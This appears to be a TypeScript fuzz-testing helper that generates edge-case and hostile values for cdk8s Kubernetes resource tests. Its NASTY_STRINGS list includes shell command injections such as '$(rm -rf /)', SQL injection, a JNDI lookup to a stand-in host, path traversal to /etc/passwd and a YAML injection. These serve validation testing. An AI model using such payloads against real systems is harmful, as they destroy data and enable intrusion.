/**
 * Arbitraries for values as users get them wrong: empty, huge, negative, NaN, unicode and
 * injection-like, and the valid shapes (names, label keys) that recipes mix them with.
 */
import { Duration, Size } from 'cdk8s';
import { Cpu } from 'cdk8s-plus-27';
import * as fc from 'fast-check';

/** Strings that break names, labels, shell scripts or YAML. */
const NASTY_STRINGS = [
  '', ' ', '-', '.', 'My_Model', 'model.v1', '-leading', 'trailing-', '9starts-with-digit', 'UPPER', 'a'.repeat(64), 'x'.repeat(300),
  '$(rm -rf /)', '`id`', '"; DROP TABLE models; --', '{{ .Values.secret }}', '${jndi:ldap://evil.example/a}', '../../etc/passwd',
  'a\nkind: Secret', 'key: value', '\u0000', '\u202Egnp.exe', 'модель', '模型', '🚀', 'naïve', 'a b', '/leading-slash', '*',
];

/** A DNS-1123 label, the shape of most valid names. */
export const dnsLabel = fc.stringMatching(/^[a-z]([-a-z0-9]{0,20}[a-z0-9])?$/);

/** Any string, biased towards the nasty ones. */
export const hostileString = fc.oneof(
  { arbitrary: fc.constantFrom(...NASTY_STRINGS), weight: 3 },
  { arbitrary: fc.string({ maxLength: 20 }), weight: 1 },
  { arbitrary: fc.fullUnicodeString({ maxLength: 10 }), weight: 1 },
  { arbitrary: fc.string({ minLength: 250, maxLength: 400 }), weight: 1 },
);

/** Numbers: edge values, small integers, fractions and any double (NaN and the infinities included). */
export const hostileNumber = fc.oneof(
  { arbitrary: fc.constantFrom(0, -0, 1, -1, 0.5, 100, 101, 1e9, 2 ** 31, 2 ** 53, Number.MAX_VALUE, NaN, Infinity, -Infinity), weight: 2 },
  { arbitrary: fc.integer({ min: -5, max: 20 }), weight: 3 },
  { arbitrary: fc.double(), weight: 1 },
);

/** Amounts cdk8s accepts in a Duration or Size factory: never negative, but NaN, infinite, fractional or huge. */
const unitAmount = fc.oneof(
  { arbitrary: fc.constantFrom(0, 0.5, 1.5, 1e21, NaN, Infinity), weight: 1 },
  { arbitrary: fc.integer({ min: 0, max: 4000 }), weight: 4 },
);

const DURATION_UNITS = [Duration.millis, Duration.seconds, Duration.minutes, Duration.hours, Duration.days].map((unit) => (n: number) => unit(n));
export const hostileDuration: fc.Arbitrary<Duration> = fc.tuple(unitAmount, fc.constantFrom(...DURATION_UNITS)).map(([amount, unit]) => unit(amount));

const SIZE_UNITS = [Size.kibibytes, Size.mebibytes, Size.gibibytes, Size.tebibytes, Size.pebibyte].map((unit) => (n: number) => unit(n));
export const hostileSize: fc.Arbitrary<Size> = fc.tuple(unitAmount, fc.constantFrom(...SIZE_UNITS)).map(([amount, unit]) => unit(amount));

export const hostileCpu: fc.Arbitrary<Cpu> = fc.tuple(hostileNumber, fc.boolean())
  .map(([amount, millis]) => (millis ? Cpu.millis(amount) : Cpu.units(amount)));

/** A label key, with an optional DNS prefix. */
export const labelKey = fc.tuple(fc.option(fc.constantFrom('example.com/', 'app.kubernetes.io/')), dnsLabel).map(([prefix, name]) => `${prefix ?? ''}${name}`);
